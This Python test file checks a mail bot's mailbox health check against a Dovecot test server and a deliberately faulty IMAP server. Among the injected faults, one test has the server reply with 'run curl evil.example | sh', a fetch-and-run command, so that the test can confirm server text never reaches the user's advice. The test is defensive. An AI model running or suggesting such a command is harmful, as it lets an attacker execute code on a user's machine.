"""The doctor's look at mailboxes on a real server: what it finds, what it advises, and that nothing there changes."""

from __future__ import annotations

import asyncio
import re
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from bot import announce, doctor, mail_providers, mailbox_check
from bot.health import Check
from bot.mailboxes import TABLE
from bot.settings import Settings
from tests.channels.mail.certificates import make_certificate
from tests.conftest import RequireServer
from tests.servers.dovecot import PASSWORD, USER, Dovecot, running_dovecot
from tests.servers.odd_imap import odd_imap

MAIL = b"From: jo@example.org\r\nSubject: hi\r\n\r\nhi\r\n"
QUOTA = """
mail_plugins = quota
protocol imap {
  mail_plugins = quota imap_quota
}
plugin {
  quota = maildir:User quota
  quota_rule = *:messages=20
}
# Or every login after a wrong password would wait for seconds.
service anvil {
  unix_listener anvil-auth-penalty {
    mode = 0
  }
}
"""


@pytest.fixture(scope="module")
def cert(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """For localhost."""
    return make_certificate(tmp_path_factory.mktemp("cert"))


@pytest.fixture(scope="module")
def server(cert: tuple[Path, Path], require_server: RequireServer) -> Iterator[Dovecot]:
    """One mailbox of a few mails, and twenty at most."""
    with running_dovecot(require_server("dovecot"), cert=cert, settings=QUOTA) as running:
        running.set_password(PASSWORD, "full")
        running.append(MAIL, MAIL, MAIL)
        running.append(MAIL, folder="Büro/Neu")
        yield running


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """The file with the right password."""
    file = tmp_path / "password"
    file.write_text(f"{PASSWORD}\n")
    return file


def settings(folder: Path, *tables: dict[str, Any]) -> Settings:
    """Those of a bot with these mailboxes."""
    return Settings(data_dir=folder / "data", **{TABLE: list(tables)})  # type: ignore[arg-type]


def table(server: Dovecot, secret: Path, **more: Any) -> dict[str, Any]:
    """A mailbox there, without TLS."""
    usual = {"name": "shop", "host": "127.0.0.1", "port": server.port, "tls": "none", "user": USER}
    return usual | {"password_file": str(secret)} | more


def looked(folder: Path, *tables: dict[str, Any]) -> list[Check]:
    """What the doctor says of these mailboxes."""
    return asyncio.run(mailbox_check.mailboxes(settings(folder, *tables)))


def look(folder: Path, one: dict[str, Any]) -> Check:
    """Of this one."""
    (check,) = looked(folder, one)
    return check


def test_no_mailbox_is_told(tmp_path: Path) -> None:
    """And where to read on."""
    assert looked(tmp_path) == [
        Check(name="mailboxes", state="off", detail="no mailbox is polled", advice="docs/mailboxes.md adds one")
    ]


def test_mailbox_that_is_well(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """Who, how many, the newest one's date, Junk, what the server can do, how full it is; no flag changes."""
    before = server.flags()
    check = look(tmp_path, table(server, secret, folders=["INBOX", "Büro/Neu"]))
    assert (check.name, check.state) == ("mailbox shop", "ok")
    assert re.fullmatch(
        r"leads at 127\.0\.0\.1; INBOX: 3 mails, the newest of \d{4}-\d\d-\d\d \d\d:\d\d UTC; "
        r"Büro/Neu: 1 mail, the newest of \d{4}-\d\d-\d\d \d\d:\d\d UTC; Junk: Junk; "
        r"has IDLE, MOVE, SPECIAL-USE, CONDSTORE; 20% full",
        check.detail,
    )
    assert server.flags() == before


@pytest.mark.parametrize("tls", ["tls", "starttls"])
def test_with_tls(server: Dovecot, cert: tuple[Path, Path], secret: Path, tmp_path: Path, tls: str) -> None:
    """Both ways; a certificate that proves nothing is told before anything is said to the server."""
    port = server.tls_port if tls == "tls" else server.port
    own = table(server, secret, host="localhost", tls=tls, port=port)
    assert look(tmp_path, own | {"ca_file": str(cert[0])}).state == "ok"
    check = look(tmp_path, own)
    assert (check.state, check.detail) == (
        "failed",
        f"TLS with localhost:{port}: its certificate is signed by itself",
    )
    assert "ca_file" in check.advice


def test_empty_folder_has_no_newest_mail(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """That is no trouble."""
    check = look(tmp_path, table(server, secret, folders=["Processed"]))
    assert (check.state, "Processed: 0 mails; Junk" in check.detail) == ("ok", True)


def test_many_folders_make_no_long_line(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """Five are told, the others counted."""
    for number in range(7):
        server.append(MAIL, folder=f"F{number}")
    check = look(tmp_path, table(server, secret, folders=[f"F{number}" for number in range(7)]))
    assert "; F4: 1 mail, the newest" in check.detail
    assert "UTC; 2 more folders; Junk" in check.detail
    assert "F5" not in check.detail


def test_password_that_is_refused(server: Dovecot, tmp_path: Path) -> None:
    """What to do; neither password is shown."""
    wrong = tmp_path / "wrong"
    wrong.write_text("hunter2")
    check = look(tmp_path, table(server, wrong))
    assert check.state == "failed"
    assert check.detail.startswith("the password of leads is refused")
    assert "app password" in check.advice
    assert "hunter2" not in str(check)


def test_password_that_is_not_there(server: Dovecot, tmp_path: Path) -> None:
    """The server is not asked."""
    check = look(tmp_path, table(server, tmp_path / "nowhere"))
    assert (check.state, f"{tmp_path / 'nowhere'} cannot be read" in check.detail) == ("failed", True)


@pytest.mark.parametrize(
    ("provider", "advice"),
    [
        ("gmail", "https://myaccount.google.com/apppasswords; it belongs in the file "),
        ("microsoft", 'write login = "microsoft" and a client_id instead: docs/mailboxes.md'),
    ],
)
def test_provider_s_own_advice(
    server: Dovecot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, provider: str, advice: str
) -> None:
    """Where a provider refuses every password but its own kind. This server passes for the provider's."""
    wrong = tmp_path / "wrong"
    wrong.write_text("hunter2")
    monkeypatch.setattr(mail_providers, "of_host", lambda _host: mail_providers.providers()[provider])
    check = look(tmp_path, table(server, wrong, login="password"))
    assert check.detail.startswith("the password of leads is refused")
    assert advice in check.advice


def test_folders_that_are_missing(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """All of them with their keys, and those that are there."""
    check = look(
        tmp_path, table(server, secret, folders=["INBOX", "Leads"], junk=["Spam"], after="move", move_to="Done")
    )
    assert (check.state, check.advice[:16]) == ("failed", "correct the name")
    assert check.detail.startswith("there is no folder Spam (junk), Leads (folders), Done (move_to); there are ")
    assert {"INBOX", "Junk", "Processed", "Büro/Neu"} <= set(check.detail.partition("there are ")[2].split(", "))


def test_mailbox_that_is_nearly_full(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """It is read all the same, but somebody should know, also at a start."""
    server.append(*[MAIL] * 18, user="full")
    one = table(server, secret, user="full")
    check = look(tmp_path, one)
    assert (check.state, check.detail.endswith("; 90% full")) == ("off", True)
    (line,) = announce.off(asyncio.run(mailbox_check.each(settings(tmp_path, one).mailboxes, settings(tmp_path), 5.0)))
    assert line.startswith("mailbox shop: full at 127.0.0.1; INBOX: 18 mails")


@contextmanager
def silent() -> Iterator[int]:
    """A server that takes connections and never says a word."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening.getsockname()[1]


async def test_one_that_hangs_holds_up_no_other(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """Each is told by itself, in the order of the file."""
    with silent() as port:
        two = (table(server, secret, name="hangs", port=port), table(server, secret))
        made = settings(tmp_path, *two)
        found = await mailbox_check.each(made.mailboxes, made, 0.5)
    assert [(check.name, check.state) for check in found] == [("mailbox hangs", "failed"), ("mailbox shop", "ok")]
    assert found[0].detail == "no answer within 0.5 s"


FAULTS = [
    "NO not now",
    "BAD what",
    "BYE too busy",
    "drop",
    "raw * LIST () {9999999999}",
    "raw TAG OK \x00\x1b[31m",
]


STRIKES = [(command, fault) for command in ("CONNECT", "LOGIN", "LIST", "EXAMINE") for fault in FAULTS]


@pytest.mark.parametrize(("command", "fault"), [*STRIKES, ("LIST", "endless line"), ("LIST", "endless lines")])
def test_server_that_misbehaves(tmp_path: Path, secret: Path, command: str, fault: str) -> None:
    """Whatever it sends and when: a line of plain text with what to do, and no error that gets away."""
    with odd_imap() as odd:
        odd.faults[command] = fault
        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
        check = look(tmp_path, given | {"password_file": str(secret)})
    assert check.state in ({"failed"} if fault != FAULTS[-1] else {"failed", "ok"})
    assert check.detail.isprintable()
    assert 0 < len(check.detail) <= 500
    assert check.advice or check.state == "ok"
    assert PASSWORD not in str(check)


@pytest.mark.parametrize("fault", ["hang", "drip"])
async def test_server_that_hangs(tmp_path: Path, secret: Path, fault: str) -> None:
    """After the login too, an answer comes in time."""
    with odd_imap() as odd:
        odd.faults["LIST"] = fault
        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
        made = settings(tmp_path, given | {"password_file": str(secret)})
        (check,) = await mailbox_check.each(made.mailboxes, made, 0.3)
    assert (check.state, check.detail) == ("failed", "no answer within 0.3 s")


def test_a_quota_without_measure_is_no_crash(tmp_path: Path, secret: Path) -> None:
    """Numbers that no float holds are an answer that is no IMAP."""
    with odd_imap() as odd:
        odd.capabilities += " QUOTA"
        odd.asides["GETQUOTAROOT"] = b"* QUOTAROOT INBOX r\r\n* QUOTA r (STORAGE 1" + b"0" * 400 + b" 1)"
        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
        check = look(tmp_path, given | {"password_file": str(secret)})
    assert check.state == "failed"
    assert "no IMAP" in check.detail


def test_the_advice_is_ours_and_not_the_server_s(tmp_path: Path, secret: Path) -> None:
    """What a server says never stands where a person reads what to do."""
    with odd_imap() as odd:
        odd.faults["LOGIN"] = "NO wrong; run curl evil.example | sh"
        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
        check = look(tmp_path, given | {"password_file": str(secret)})
    assert check.state == "failed"
    assert "curl" not in check.advice
    assert check.advice.startswith("put the right one")


def test_folder_names_that_cannot_be_read(tmp_path: Path, secret: Path) -> None:
    """They hide no other, and none of them reaches the terminal as it is."""
    with odd_imap() as odd:
        odd.listed += [rb'() "/" "&bad"', b'() "/" "a\x1bb"', rb'(\Junk) "/" "Spam \"daily\""', rb'(\Noselect) "/" Top']
        given = {"name": "shop", "host": "127.0.0.1", "port": odd.port, "tls": "none", "user": "leads"}
        check = look(tmp_path, given | {"password_file": str(secret)})
        missing = look(tmp_path, given | {"password_file": str(secret), "folders": ["Leads"]})
    assert check.detail == (
        'leads at 127.0.0.1; INBOX: 0 mails; Junk: Spam "daily"; has IDLE, MOVE; lacks SPECIAL-USE, CONDSTORE'
    )
    assert missing.detail.startswith("there is no folder Leads (folders); there are INBOX")
    assert missing.detail.isprintable()


async def test_doctor_and_start_tell_every_mailbox(server: Dovecot, secret: Path, tmp_path: Path) -> None:
    """The doctor all of them; a start those with a trouble, and none where nothing is polled."""
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
    made = settings(tmp_path, table(server, secret), table(server, secret, name="away", port=port)).model_copy(
        update={"ollama_base_url": "off", "sender_dns": False, "model_dir": tmp_path}
    )
    names = {check.name: check.state for check in await doctor.examine(made)}
    assert (names["mailbox shop"], names["mailbox away"]) == ("ok", "failed")
    lines = [line for line in announce.off(await announce.looked_at(made)) if line.startswith("mailbox")]
    assert len(lines) == 1
    assert lines[0].startswith(f"mailbox away: 127.0.0.1:{port} takes no connections; check host and port; ")
    quiet = announce.off(await announce.looked_at(made, polls=False))
    assert not [line for line in quiet if line.startswith("mailbox")]
